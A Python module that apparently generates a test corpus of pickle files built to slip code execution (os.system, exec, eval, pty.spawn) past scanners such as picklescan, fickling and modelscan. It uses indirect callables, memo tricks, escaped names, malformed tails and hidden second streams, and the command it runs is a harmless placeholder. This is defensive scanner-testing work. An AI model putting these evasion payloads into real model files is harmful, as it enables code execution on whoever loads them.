"""Pickles that hide what they call: by opcodes, by the memo, by other callables, by what a strict reader stumbles over."""

import gzip
import struct

from .assemble import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    HARMLESS_CODE,
    HARMLESS_COMMAND,
    HARMLESS_EXPRESSION,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    POP,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    Opcodes,
    call,
    data,
    encode,
    frame,
    get,
    integer,
    long_text,
    many,
    name,
    proto,
    put,
    row,
    stack_name,
    table,
    text,
)
from .direct import FICKLING, MODELSCAN, PICKLESCAN

COMMAND = text(HARMLESS_COMMAND)
SYSTEM = stack_name("os", "system")
RUN = call(SYSTEM, HARMLESS_COMMAND)
CTF = "https://github.com/splitline/Pickora"
NULLIFAI = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
CLOAK = "https://arxiv.org/abs/2508.19774"


def indirect():
    partial = call(stack_name("functools", "partial"), Opcodes(SYSTEM), HARMLESS_COMMAND)
    yield "partial", partial + EMPTY_TUPLE + REDUCE, "functools.partial of os.system, called", "https://github.com/trailofbits/fickling/pull/210"
    located = call(stack_name("pydoc", "locate"), "os")
    caller = call(stack_name("operator", "methodcaller"), "system", HARMLESS_COMMAND)
    yield "methodcaller-locate", caller + encode((Opcodes(located),)) + REDUCE, "operator.methodcaller on what pydoc.locate found", PICKLESCAN + "GHSA-84r2-jw7c-4r5q"
    module = call(stack_name("builtins", "__import__"), "os")
    getter = call(stack_name("_operator", "attrgetter"), "system")
    found = getter + encode((Opcodes(module),)) + REDUCE
    yield "attrgetter", found + encode((HARMLESS_COMMAND,)) + REDUCE, "operator.attrgetter on an imported module", PICKLESCAN + "GHSA-955r-x9j8-7rhh"
    attribute = call(stack_name("builtins", "getattr"), Opcodes(module), "system")
    yield "getattr-chain", attribute + encode((HARMLESS_COMMAND,)) + REDUCE, "builtins.getattr of __import__('os')", "https://blog.trailofbits.com/2021/03/15/never-a-dill-moment-exploiting-machine-learning-pickle-files/"
    subclasses = call(call(stack_name("builtins", "getattr"), Opcodes(stack_name("builtins", "object")), "__subclasses__"))
    yield "object-subclasses", subclasses, "walks object.__subclasses__, no dangerous global named", CTF
    resolved = call(stack_name("pkgutil", "resolve_name"), "os:system")
    yield "pkgutil-resolve", resolved + encode((HARMLESS_COMMAND,)) + REDUCE, "any callable by pkgutil.resolve_name", PICKLESCAN + "GHSA-vvpj-8cmc-gx39"
    lazily = call(stack_name("builtins", "map"), Opcodes(SYSTEM), [HARMLESS_COMMAND])
    yield "map-list", call(stack_name("builtins", "list"), Opcodes(lazily)), "map over os.system, run by list", CLOAK
    yield "dotted-pathlib", call(stack_name("pathlib", "os.system"), HARMLESS_COMMAND), "os.system as a dotted name in pathlib", FICKLING + "GHSA-5j3x-jp52-966f"
    yield "dotted-torch", call(stack_name("torch", "os.system"), HARMLESS_COMMAND), "os.system as a dotted name in torch", "https://github.com/trailofbits/fickling/pull/60"
    modules = call(stack_name("collections", "_sys.modules.get"), "os")
    yield "dotted-collections", call(stack_name("builtins", "getattr"), Opcodes(modules), "system") + encode((HARMLESS_COMMAND,)) + REDUCE, "sys.modules reached as a dotted name in collections", FICKLING + "GHSA-5j3x-jp52-966f"
    yield "dotted-sklearn", call(stack_name("sklearn.utils", "os.system"), HARMLESS_COMMAND), "os.system as a dotted name in scikit-learn", CLOAK
    yield "sklearn-joblib-load", call(stack_name("sklearn.utils._joblib", "joblib.load"), "second-stage.bin"), "joblib.load reached through a module of scikit-learn", CLOAK
    size = stack_name("numpy", "size") + MEMOIZE
    builtin = stack_name("numpy", "__builtins__") + MEMOIZE
    state = encode(({}, {"shape": Opcodes(get(1))}))
    evaluated = get(0) + state + BUILD + POP + get(0) + encode((Opcodes(get(0)), "eval")) + REDUCE
    yield "numpy-size-shape", size + POP + builtin + POP + evaluated + encode((HARMLESS_EXPRESSION,)) + REDUCE, "numpy.size given a shape of builtins by BUILD, then asked for eval", MODELSCAN + "330"
    added = call(stack_name("copyreg", "add_extension"), "os", "system", 1)
    yield "extension-registry", added + POP + b"\x82\x01" + encode((HARMLESS_COMMAND,)) + REDUCE, "os.system by a code of the extension registry, which the file fills itself", "https://docs.python.org/3/library/copyreg.html"


def constructed():
    """Calls without the opcode REDUCE."""
    made = stack_name("types", "SimpleNamespace") + EMPTY_TUPLE + NEWOBJ
    yield "build-setstate", made + table((text("__setstate__"), SYSTEM)) + BUILD + COMMAND + BUILD, "an object is given os.system as __setstate__, then a state", CTF
    cls = stack_name("argparse", "Namespace")
    dressed = cls + encode((None, {"__setstate__": Opcodes(SYSTEM)})) + BUILD
    yield "build-class-setstate", dressed + POP + cls + EMPTY_TUPLE + NEWOBJ + COMMAND + BUILD, "a class is given os.system as __setstate__ by the state of its slots", CTF
    mapped = stack_name("builtins", "map") + encode((Opcodes(SYSTEM), [HARMLESS_COMMAND])) + NEWOBJ
    yield "newobj-map-bytes", stack_name("builtins", "bytes") + many(mapped) + NEWOBJ, "NEWOBJ of map, run by NEWOBJ of bytes", CTF
    extended = stack_name("builtins", "map") + encode((Opcodes(SYSTEM), [HARMLESS_COMMAND])) + EMPTY_DICT + NEWOBJ_EX
    yield "newobj-ex-map", stack_name("builtins", "frozenset") + many(extended) + EMPTY_DICT + NEWOBJ_EX, "NEWOBJ_EX of map, run by NEWOBJ_EX of frozenset", CTF
    yield "obj-pop", MARK + stack_name("smtplib", "SMTP") + text("127.0.0.1") + b"o" + POP + NONE, "OBJ, its result thrown away", FICKLING + "GHSA-mxhj-88fx-4pcv"
    yield "setitem-modules", name("sys", "modules") + put(0) + text("sys") + get(0) + b"s" + POP + call(name("sys", "get"), "os") + put(1) + POP + get(0) + text("sys") + get(1) + b"s" + POP + call(name("sys", "system"), HARMLESS_COMMAND), "puts os in the place of sys by SETITEM", "https://github.com/mmaitre314/picklescan"
    yield "persistent-id", many(text("storage"), RUN, text("0"), text("cpu"), integer(1)) + b"Q", "the call stands within a persistent id", "https://github.com/trailofbits/fickling"
    yield "partial-setstate", stack_name("functools", "partial") + many(stack_name("builtins", "print")) + REDUCE + encode((Opcodes(SYSTEM), (HARMLESS_COMMAND,), {}, None)) + BUILD + EMPTY_TUPLE + REDUCE, "functools.partial of print becomes one of os.system by BUILD", "https://github.com/trailofbits/fickling/pull/210"


def memoised():
    keys = table((text("os"), integer(1)), (text("system"), integer(2)))
    spread = EMPTY_DICT + MARK + text("os") + MEMOIZE + integer(1) + text("system") + MEMOIZE + integer(2) + b"u" + POP
    yield "memo-names", spread + get(0) + get(1) + STACK_GLOBAL + many(COMMAND) + REDUCE, "both names come from the memo, where they were keys of a dict", "https://github.com/mmaitre314/picklescan"
    over = text("collections") + put(0) + POP + text("OrderedDict") + put(1) + POP
    over += text("os") + put(0) + POP + text("system") + put(1) + POP
    yield "memo-overwritten", over + get(0) + get(1) + STACK_GLOBAL + many(COMMAND) + REDUCE, "places of the memo written twice", "https://github.com/mmaitre314/picklescan/pull/23"
    aliased = SYSTEM + put(7) + POP + keys + POP + get(7) + many(COMMAND) + REDUCE
    yield "memo-callable", aliased, "the callable itself comes from the memo, long after it was named", "https://github.com/promptfoo/modelaudit/pull/518"
    decoys = text("os") + text("system") + text("collections") + POP + STACK_GLOBAL
    yield "decoy-popped", decoys + many(COMMAND) + REDUCE, "the nearest string before STACK_GLOBAL was popped", "https://github.com/promptfoo/modelaudit/pull/518"
    marked = text("os") + text("system") + MARK + text("collections") + text("OrderedDict") + b"1" + STACK_GLOBAL
    yield "decoy-marked", marked + many(COMMAND) + REDUCE, "the nearest strings before STACK_GLOBAL went with POP_MARK", "https://github.com/promptfoo/modelaudit/pull/518"
    doubled = text("timeit") + b"2" + STACK_GLOBAL
    yield "names-doubled", doubled + many(text(HARMLESS_CODE)) + REDUCE, "one string doubled by DUP is module and name", "https://github.com/mmaitre314/picklescan"
    sparse = RUN + b"r\xff\xff\xff\x7f" + POP + NONE
    yield "memo-huge-place", sparse, "a place of the memo far outside of any memory, after the call", "https://github.com/trailofbits/fickling"
    missing = RUN + POP + text("os") + MEMOIZE + get(3) + get(0) + STACK_GLOBAL
    yield "memo-missing", missing, "a place of the memo that was never written, after the call", "https://github.com/mmaitre314/picklescan/pull/52"
    confused = RUN + POP + integer(42) + MEMOIZE + text("os") + MEMOIZE + get(0) + get(1) + STACK_GLOBAL
    yield "memo-type", confused, "a number where the name of a module should be, after the call", "https://github.com/mmaitre314/picklescan/pull/52"


def spelled():
    strings = b"S'os'\nS'system'\n" + STACK_GLOBAL
    yield "strings-unframed", strings + b"S'true'\n\x85R.", "STACK_GLOBAL on STRING, without PROTO", PICKLESCAN + "GHSA-9gvj-pp9x-gcfr"
    escaped = proto(4) + b"S'\\x6f\\163'\n" + b"Vs\\u0079stem\n" + STACK_GLOBAL
    yield "strings-escaped", escaped + many(COMMAND) + REDUCE + STOP, "the names are written with escapes", "https://github.com/mmaitre314/picklescan"
    turned = call(stack_name("_codecs", "encode"), "flfgrz", "rot13")
    yield "name-computed", proto(4) + text("os") + turned + STACK_GLOBAL + many(COMMAND) + REDUCE + STOP, "the name is the result of a call of _codecs.encode", CTF
    joined = call(stack_name("builtins", "str.join"), "", ["sys", "tem"])
    yield "name-joined", proto(4) + text("posix") + joined + STACK_GLOBAL + many(COMMAND) + REDUCE + STOP, "the name is joined from parts", CTF
    yield "inst", b"(S'true'\nios\nsystem\n.", "INST", "https://github.com/mmaitre314/picklescan/pull/21"
    yield "obj-pty", b"(cpty\nspawn\nS\"true\"\no.", "OBJ of pty.spawn", "https://github.com/trailofbits/fickling/pull/108"
    long_name = proto(4) + b"\x8d" + struct.pack("<Q", 2) + b"os" + long_text("system") + STACK_GLOBAL
    yield "long-strings", long_name + many(COMMAND) + REDUCE + STOP, "the names with lengths of eight and four bytes", "https://github.com/mmaitre314/picklescan"
    yield "latin-strings", proto(2) + b"U\x02osU\x06system" + STACK_GLOBAL + many(b"U\x04true") + REDUCE + STOP, "the names as strings of Python 2", "https://github.com/mmaitre314/picklescan"


def broken():
    """The call has happened by the time a reader meets what is broken."""
    yield "no-stop", proto(4) + RUN, "no STOP", NULLIFAI
    yield "cut-argument", proto(4) + RUN + POP + b"X\xff\xff\x00\x00cut", "ends within a string", NULLIFAI
    yield "unknown-opcode", proto(4) + RUN + POP + b"\xff\xfe\xfd.", "an opcode that does not exist", NULLIFAI
    yield "old-text-then-x", b"cbuiltins\nexec\n(X" + struct.pack("<I", len(HARMLESS_CODE)) + HARMLESS_CODE.encode() + b"tRX.", "a length that leads past the end", NULLIFAI
    yield "empty-stack", proto(4) + RUN + POP + POP + POP + STOP, "pops more than there is", NULLIFAI
    yield "future-protocol", proto(4) + RUN + POP + proto(250) + NONE + STOP, "a protocol that does not exist, after the call", NULLIFAI
    yield "bad-utf8", proto(4) + RUN + POP + b"\x8c\x02\xff\xff" + STOP, "a string that is no UTF-8", NULLIFAI
    yield "bad-number", proto(2) + RUN + POP + b"Inumber\n" + STOP, "a number that is none", NULLIFAI
    yield "frame-too-long", proto(4) + RUN + POP + frame(NONE + STOP, 1 << 40), "a frame that is longer than the file", "https://github.com/python/cpython/issues/154848"
    yield "frame-within", proto(4) + frame(RUN[:10], 40) + RUN[10:] + STOP, "a frame that claims more than its part", "https://github.com/python/cpython/issues/154848"


def several():
    plain = proto(4) + frame(encode({"weights": [1, 2, 3]}) + STOP)
    yield "second-stream", plain + proto(4) + RUN + STOP, "a harmless pickle, and another behind it", "https://github.com/mmaitre314/picklescan"
    yield "second-stream-far", plain + b"\x00" * 64 + proto(4) + RUN + STOP, "a harmless pickle, zeros, and another behind them", "https://github.com/mmaitre314/picklescan"
    hidden = name("os", "system") + b"Vtrue\n" + b"\x85R"
    straddling = (
        proto(5) + NONE + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + POP + MARK
        + b"\x95" + struct.pack("<Q", 2) + b"B\x07\x01\x00\x00\x00\x00" + (hidden + MARK).ljust(261, NONE) + b"1."
    )
    yield "frame-straddled.gz", gzip.compress(straddling, mtime=0), "bytes that start in a frame and end outside of it, where readers disagree", "https://github.com/python/cpython/issues/154848"
    deep = proto(4) + MARK * 4000 + RUN + STOP
    yield "deep-marks", deep, "thousands of marks before the call", "https://github.com/trailofbits/fickling"
    yield "padding", proto(4) + (text("a" * 200) + POP) * 20 + RUN + STOP, "kilobytes of nothing before the call", "https://github.com/mmaitre314/picklescan"
    yield "tail-call", proto(4) + encode({"layers": [list(range(100))] * 8}) + POP + RUN + STOP, "much plain data before the call", "https://github.com/mmaitre314/picklescan"
    yield "unused-result", proto(4) + RUN + POP + encode({"weights": [1, 2, 3]}) + STOP, "the call's result is thrown away, plain data comes out", "https://blog.trailofbits.com/2024/06/11/exploiting-ml-models-with-pickle-file-attacks-part-1/"
    yield "bytes-names", proto(5) + b"\x96" + struct.pack("<Q", 2) + b"os" + POP + data(b"os") + POP + RUN + STOP, "byte arrays of protocol 5 before the call", "https://github.com/mmaitre314/picklescan"
    yield "row-of-calls", proto(4) + row(RUN, RUN) + STOP, "calls within a list", "https://github.com/mmaitre314/picklescan"


def items():
    for part in (indirect, constructed, memoised):
        for file, body, what, after in part():
            yield f"pickle-{file}.pkl", proto(4) + body + STOP, what, after
    for part in (spelled, broken, several):
        for file, pickled, what, after in part():
            base, _, extension = file.partition(".")
            yield f"pickle-{base}.pkl" + (f".{extension}" if extension else ""), pickled, what, after
